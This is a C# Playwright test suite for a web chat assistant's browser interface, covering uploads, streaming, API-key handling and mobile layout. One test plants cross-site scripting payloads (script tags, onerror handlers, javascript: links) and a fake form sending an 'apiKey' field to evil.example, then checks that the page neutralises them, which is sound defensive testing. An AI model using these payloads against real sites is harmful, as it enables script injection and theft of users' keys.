using System.Net.Http.Json;
using System.Text.RegularExpressions;
using Microsoft.Extensions.DependencyInjection;
using Microsoft.Playwright;
using WebSsl.Assistant.Server.Conversations;
using static Microsoft.Playwright.Assertions;

namespace WebSsl.Assistant.Server.Tests;

/// <summary>
/// The browser app end to end: Debian's chromium driven by Playwright against a real server with the tiny models.
/// Screenshots go to $WEBSSL_TEST_ARTIFACTS (default: artifacts/ next to the test assembly).
/// </summary>
[Collection(ServerCollection.Name)]
public sealed class BrowserTests(ServerWorld world) : IAsyncLifetime
{
    public const string ChromiumPath = "/usr/bin/chromium";
    private IPlaywright? _playwright;
    private IBrowser? _browser;

    public static string Artifacts => Directory.CreateDirectory(Environment.GetEnvironmentVariable("WEBSSL_TEST_ARTIFACTS")
        ?? Path.Combine(AppContext.BaseDirectory, "artifacts")).FullName;

    public async Task InitializeAsync()
    {
        Assert.True(File.Exists(ChromiumPath), $"{ChromiumPath} is missing: install Debian's chromium (apt-get install chromium), as .ci/run does.");
        _playwright = await Playwright.CreateAsync();
        _browser = await _playwright.Chromium.LaunchAsync(new BrowserTypeLaunchOptions
        {
            ExecutablePath = ChromiumPath,
            Headless = true,
            Args = ["--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--disable-background-networking", "--disable-component-update",
                "--disable-sync", "--no-first-run"],
        });
    }

    public async Task DisposeAsync()
    {
        if (_browser is not null)
        {
            await _browser.CloseAsync();
        }
        _playwright?.Dispose();
    }

    private async Task<IPage> OpenAsync(RunningServer server, int width = 1280, int height = 860, string path = "")
    {
        IPage page = await _browser!.NewPageAsync(new BrowserNewPageOptions { ViewportSize = new ViewportSize { Width = width, Height = height } });
        var console = new List<string>();
        page.Console += (_, m) => { if (m.Type == "error") console.Add(m.Text); };
        await page.GotoAsync(new Uri(server.Address, path).ToString());
        await Expect(page.Locator("#model-status")).ToHaveClassAsync(new Regex("ready"), new() { Timeout = 30_000 });
        return page;
    }

    [Fact]
    public async Task Upload_ask_watch_the_answer_stream_stop_and_find_the_conversation_after_a_reload()
    {
        await using RunningServer server = await world.StartAsync();
        IPage page = await OpenAsync(server);

        // Attach with the file picker, ask with the keyboard.
        await page.Locator("#file-input").SetInputFilesAsync(world.Image(0));
        await Expect(page.Locator("#attachments img")).ToHaveCountAsync(1);
        await page.Locator("#question").FillAsync("what is this?");
        await page.Locator("#question").PressAsync("Enter");
        ILocator first = page.Locator(".message.assistant").First;
        await Expect(first.Locator(".markdown")).ToHaveTextAsync(ServerWorld.Answer(0));
        await Expect(first.Locator(".timing summary")).ToContainTextAsync("token");
        await first.Locator(".timing summary").ClickAsync();
        await Expect(first.Locator(".timing dl")).ToContainTextAsync("56×42 →");
        await Expect(page.Locator("#drop-hint")).ToBeHiddenAsync();
        await Expect(page.Locator(".message.user img.thumb")).ToHaveCountAsync(1);
        await Expect(page.Locator("#conversations li")).ToHaveCountAsync(1);

        // A long answer: tokens arrive while it streams, then Stop ends it.
        await page.Locator(".settings summary").ClickAsync();
        await page.Locator("#max-tokens").FillAsync("3500");
        await page.Locator("#ignore-eos").CheckAsync();
        await page.Locator("#question").FillAsync("tell me more");
        await page.Locator("#send").ClickAsync();
        ILocator streaming = page.Locator(".message.assistant.streaming .markdown");
        await Expect(streaming).Not.ToBeEmptyAsync();
        int seen = (await streaming.InnerTextAsync()).Length;
        await page.WaitForFunctionAsync("n => (document.querySelector('.message.assistant.streaming .markdown')?.innerText.length ?? 0) > n", seen);
        await page.Locator("#stop").ClickAsync();
        ILocator stopped = page.Locator(".message.assistant").Nth(1);
        await Expect(stopped.Locator(".badge")).ToHaveTextAsync("stopped");
        await Expect(page.Locator("#send")).ToBeVisibleAsync();

        // The server kept the partial answer; a reload opens the same conversation from the database.
        string conversationId = new Uri(page.Url).Fragment.TrimStart('#');
        ConversationTurn last = await HubTests.WaitForTurnAsync(server, conversationId, t => t.Status != TurnStatus.Running);
        Assert.Equal(TurnStatus.Stopped, last.Status);
        Assert.NotEmpty(last.Answer);
        Assert.True(last.Answer.Length < 3500 * 4);
        await page.ReloadAsync();
        await Expect(page.Locator(".message.user")).ToHaveCountAsync(2);
        await Expect(page.Locator(".message.assistant").First.Locator(".markdown")).ToHaveTextAsync(ServerWorld.Answer(0));
        await Expect(page.Locator(".message.assistant").Nth(1).Locator(".badge")).ToHaveTextAsync("stopped");
        await Expect(page.Locator("#title")).ToHaveTextAsync("what is this?");
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(Artifacts, "browser-chat.png"), FullPage = true });
    }

    [Fact]
    public async Task Model_output_is_rendered_as_markdown_and_never_runs_script()
    {
        await using RunningServer server = await world.StartAsync();
        ConversationStore store = server.App.Services.GetRequiredService<ConversationStore>();
        string id = (await store.CreateAsync("hostile answer")).Id;
        ConversationTurn turn = await store.AddTurnAsync(id, "<b>question</b> <img src=x onerror=\"window.__pwned='question'\">", [], "general");
        const string answer = "**Total** is 42.\n\n<script>window.__pwned='script'</script>\n<img src=x onerror=\"window.__pwned='img'\">\n" +
            "[click](javascript:window.__pwned='link') <iframe src=\"javascript:window.__pwned='iframe'\"></iframe>\n\n" +
            // Elements named like the page's own: the messages come before the composer, so an unprefixed id="send" would win getElementById.
            "<form id=\"composer\" action=\"https://evil.example\"><input id=\"question\" name=\"apiKey\"><button id=\"send\">Send</button></form>" +
            "<img id=\"send\" name=\"connection\" src=\"data:,\"> <a id=\"stop\" name=\"state\" href=\"#\">here</a>";
        await store.CompleteTurnAsync(turn.Id, answer, [], TurnStatus.Done, null, null);

        IPage page = await OpenAsync(server, path: $"#{id}");
        ILocator markdown = page.Locator(".message.assistant .markdown");
        await Expect(markdown.Locator("strong")).ToHaveTextAsync("Total");
        await Expect(markdown).ToContainTextAsync("click");
        await page.WaitForTimeoutAsync(300);

        Assert.Equal("undefined", await page.EvaluateAsync<string>("() => typeof window.__pwned"));
        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages script, .messages iframe, .messages [onerror]').length"));
        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages [href^=\"javascript\"], .messages [src^=\"javascript\"]').length"));
        await Expect(page.Locator(".message.user .text")).ToContainTextAsync("<b>question</b>");

        // No form controls from an answer, ids and names prefixed, and the page's own controls still work.
        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages form, .messages input, .messages button:not(.regenerate), .messages textarea').length"));
        Assert.Equal(0, await page.EvaluateAsync<int>("() => document.querySelectorAll('.messages .markdown #send, .messages .markdown #stop, .messages .markdown [name=connection]').length"));
        Assert.True(await page.EvaluateAsync<bool>("() => document.querySelectorAll('.messages .markdown [id^=\"user-content-\"]').length > 0"));
        Assert.Equal("BUTTON", await page.EvaluateAsync<string>("() => document.getElementById('send').tagName"));
        await page.Locator("#question").FillAsync("and now?");
        await page.Locator("#send").ClickAsync();
        await Expect(page.Locator(".message.assistant")).ToHaveCountAsync(2);
        await Expect(page.Locator(".message.assistant").Nth(1).Locator(".timing")).ToBeVisibleAsync();
    }

    [Fact]
    public async Task Examples_are_asked_in_one_click_and_answered_beside_their_known_answer()
    {
        string folder = Directory.CreateTempSubdirectory("webssl-examples-").FullName;
        File.Copy(world.Image(3), Path.Combine(folder, "three.png"));
        File.Copy(world.Image(4), Path.Combine(folder, "four.png"));
        string examples = Path.Combine(folder, "examples.json");
        File.WriteAllText(examples, System.Text.Json.JsonSerializer.Serialize(new object[]
        {
            new { image = "three.png", question = "what is this?", answer = ServerWorld.Answer(3), category = "right" },
            new { image = "four.png", question = "what is this?", answer = "not what it says", category = "wrong" },
        }));
        await using RunningServer server = await world.StartAsync(new() { ["Server:ExamplesFile"] = examples });
        IPage page = await OpenAsync(server);

        ILocator buttons = page.Locator("#example-list button");
        await Expect(buttons).ToHaveCountAsync(2);
        await page.WaitForFunctionAsync("() => [...document.querySelectorAll('#example-list img')].every(i => i.naturalWidth > 0)");
        await buttons.First.ClickAsync();
        await Expect(page.Locator(".message.assistant .markdown")).ToHaveTextAsync(ServerWorld.Answer(3));
        await Expect(page.Locator(".message.assistant .truth.right")).ToContainTextAsync($"the known answer is {ServerWorld.Answer(3)}");
        await Expect(page.Locator(".message.user img.thumb")).ToHaveCountAsync(1);

        await buttons.Nth(1).ClickAsync();
        await Expect(page.Locator(".message.assistant")).ToHaveCountAsync(1); // a new chat per example
        await Expect(page.Locator(".message.assistant .markdown")).ToHaveTextAsync(ServerWorld.Answer(4));
        await Expect(page.Locator(".message.assistant .truth.wrong")).ToContainTextAsync("the known answer is not what it says");
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(Artifacts, "browser-examples.png"), FullPage = true });
    }

    [Fact]
    public async Task With_an_api_key_the_page_sends_it_in_headers_only_and_shows_images_from_blob_urls()
    {
        const string key = "browser-key-0123456789abcdef";
        await using RunningServer server = await world.StartAsync(new() { ["Server:ApiKey"] = key });
        IPage page = await _browser!.NewPageAsync();
        var urls = new List<string>();
        var sockets = new List<string>();
        page.Request += (_, r) => urls.Add(r.Url);
        page.WebSocket += (_, w) => sockets.Add(w.Url);
        await page.GotoAsync(server.Address.ToString());

        await Expect(page.Locator("#key-dialog")).ToBeVisibleAsync();
        await page.Locator("#key-input").FillAsync(key);
        await page.Locator("#key-dialog button.primary").ClickAsync();
        await Expect(page.Locator("#model-status")).ToHaveClassAsync(new Regex("ready"), new() { Timeout = 30_000 });
        await page.Locator("#file-input").SetInputFilesAsync(world.Image(5));
        await Expect(page.Locator("#attachments img")).ToHaveCountAsync(1);
        await page.Locator("#question").FillAsync("what is this?");
        await page.Locator("#send").ClickAsync();
        await Expect(page.Locator(".message.assistant .markdown")).ToHaveTextAsync(ServerWorld.Answer(5));

        // After a reload the stored conversation's image comes from the server, fetched with the header.
        await page.ReloadAsync();
        ILocator thumb = page.Locator(".message.user img.thumb");
        await Expect(thumb).ToHaveAttributeAsync("src", new Regex("^blob:"));
        await page.WaitForFunctionAsync("() => document.querySelector('.message.user img.thumb')?.naturalWidth > 0");
        await Expect(page.Locator(".message.user a")).ToHaveAttributeAsync("href", new Regex("^blob:"));

        Assert.Contains(urls, u => u.Contains("/api/images/", StringComparison.Ordinal));
        Assert.DoesNotContain(urls, u => u.Contains(key, StringComparison.Ordinal));
        Assert.All(sockets, s => Assert.Contains("/hubs/assistant", s));
    }

    [Fact]
    public async Task A_pdf_becomes_page_thumbnails_and_the_question_reads_the_pages_kept()
    {
        await using RunningServer server = await world.StartAsync();
        IPage page = await OpenAsync(server);
        int most = server.Assistant.Options.MaxImagesPerTurn;
        using var temp = new TempDirectory();
        string pdf = Path.Combine(temp.Path, "report.pdf");
        File.WriteAllBytes(pdf, TestDocuments.PdfOf(Enumerable.Range(0, most + 1).Select(i => File.ReadAllBytes(world.Image(i))).ToArray()));

        await page.Locator("#file-input").SetInputFilesAsync(pdf);

        // One thumbnail per page, labelled; more pages than a question reads: the page says so and will not send.
        await Expect(page.Locator("#attachments img")).ToHaveCountAsync(most + 1);
        await Expect(page.Locator("#attachments .page-label").Last).ToHaveTextAsync($"p. {most + 1}");
        await Expect(page.Locator("#attachments img").First).ToHaveAttributeAsync("src", new Regex("^blob:"));
        await Expect(page.Locator("#attachments-note")).ToContainTextAsync($"at most {most}");
        await Expect(page.Locator("#send")).ToBeDisabledAsync();
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(Artifacts, "browser-pdf-pages.png") });

        // Keep pages 2 and 3 (remove the first, then everything after the kept two).
        await page.Locator("#attachments button.remove").First.ClickAsync();
        while (await page.Locator("#attachments img").CountAsync() > 2)
        {
            await page.Locator("#attachments button.remove").Last.ClickAsync();
        }
        await Expect(page.Locator("#attachments-note")).ToBeHiddenAsync();
        await Expect(page.Locator("#attachments .page-label")).ToHaveTextAsync(["p. 2", "p. 3"]);
        await page.Locator("#question").FillAsync("what is this?");
        await page.Locator("#send").ClickAsync();

        ILocator answer = page.Locator(".message.assistant").First;
        await Expect(answer.Locator(".timing summary")).ToContainTextAsync("token", new() { Timeout = 30_000 });
        await Expect(page.Locator(".message.user img.thumb")).ToHaveCountAsync(2);
        await answer.Locator(".timing summary").ClickAsync();
        await Expect(answer.Locator(".timing dl")).ToContainTextAsync("Image 2");
        await Expect(answer.Locator(".timing dl")).Not.ToContainTextAsync("Image 3");
    }

    [Fact]
    public async Task Images_can_be_dropped_or_pasted_and_bad_files_are_explained()
    {
        await using RunningServer server = await world.StartAsync();
        IPage page = await OpenAsync(server);
        const string script = """
            ([base64, name, how]) => {
              const bytes = Uint8Array.from(atob(base64), c => c.charCodeAt(0));
              const data = new DataTransfer();
              data.items.add(new File([bytes], name, { type: "image/png" }));
              if (how === "drop") {
                document.dispatchEvent(new DragEvent("dragenter", { dataTransfer: data, bubbles: true }));
                document.dispatchEvent(new DragEvent("drop", { dataTransfer: data, bubbles: true, cancelable: true }));
              } else {
                document.getElementById("question").dispatchEvent(new ClipboardEvent("paste", { clipboardData: data, bubbles: true, cancelable: true }));
              }
            }
            """;
        string Base64(int i) => Convert.ToBase64String(File.ReadAllBytes(world.Image(i)));

        await page.EvaluateAsync(script, new object[] { Base64(1), "dropped.png", "drop" });
        await Expect(page.Locator("#attachments img")).ToHaveCountAsync(1);
        await Expect(page.Locator("#drop-hint")).ToBeHiddenAsync();
        await page.EvaluateAsync(script, new object[] { Base64(2), "pasted.png", "paste" });
        await Expect(page.Locator("#attachments img")).ToHaveCountAsync(2);
        await page.EvaluateAsync(script, new object[] { Convert.ToBase64String("not a picture"u8.ToArray()), "fake.png", "drop" });
        await Expect(page.Locator("#composer-error")).ToContainTextAsync("fake.png");
        await Expect(page.Locator("#attachments img")).ToHaveCountAsync(2);

        await page.Locator("#attachments button.remove").First.ClickAsync();
        await page.Locator("#question").FillAsync("what is this?");
        await page.Locator("#send").ClickAsync();
        await Expect(page.Locator(".message.assistant .markdown")).ToHaveTextAsync(ServerWorld.Answer(2));
    }

    [Fact]
    public async Task Works_at_phone_width_and_from_the_keyboard()
    {
        await using RunningServer server = await world.StartAsync();
        IPage page = await OpenAsync(server, width: 390, height: 844);

        Assert.True(await page.EvaluateAsync<bool>("() => document.documentElement.scrollWidth <= window.innerWidth"));
        await page.Keyboard.PressAsync("Tab");
        await page.Keyboard.PressAsync("Enter");
        Assert.Equal("question", await page.EvaluateAsync<string>("() => document.activeElement.id"));
        await page.Keyboard.TypeAsync("hello there");
        await page.Keyboard.PressAsync("Enter");
        await Expect(page.Locator(".message.assistant .timing")).ToBeVisibleAsync();

        await Expect(page.Locator("#toggle-sidebar")).ToBeVisibleAsync();
        await page.Locator("#toggle-sidebar").ClickAsync();
        await Expect(page.Locator("#conversations li button.open")).ToHaveTextAsync("hello there");
        Assert.True(await page.EvaluateAsync<bool>("() => document.documentElement.scrollWidth <= window.innerWidth"));
        await page.WaitForTimeoutAsync(400);
        await page.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(Artifacts, "browser-phone.png") });
        List<ConversationSummary>? list = await server.Http.GetFromJsonAsync<List<ConversationSummary>>("api/conversations");
        Assert.Single(list!);
    }

    [Fact]
    public async Task A_model_notice_such_as_the_demo_label_is_shown_above_the_conversation()
    {
        await using (RunningServer plain = await world.StartAsync())
        {
            IPage page = await OpenAsync(plain);
            await Expect(page.Locator("#model-notice")).ToBeHiddenAsync();
        }

        const string notice = "Demo model trained on synthetic charts and documents; it only knows charts like its training data.";
        await using RunningServer server = await world.StartAsync(new() { ["Server:ModelNotice"] = notice });
        IPage labelled = await OpenAsync(server);
        await Expect(labelled.Locator("#model-notice")).ToBeVisibleAsync();
        await Expect(labelled.Locator("#model-notice")).ToHaveTextAsync(notice);
        await labelled.ScreenshotAsync(new PageScreenshotOptions { Path = Path.Combine(Artifacts, "browser-model-notice.png") });
    }
}
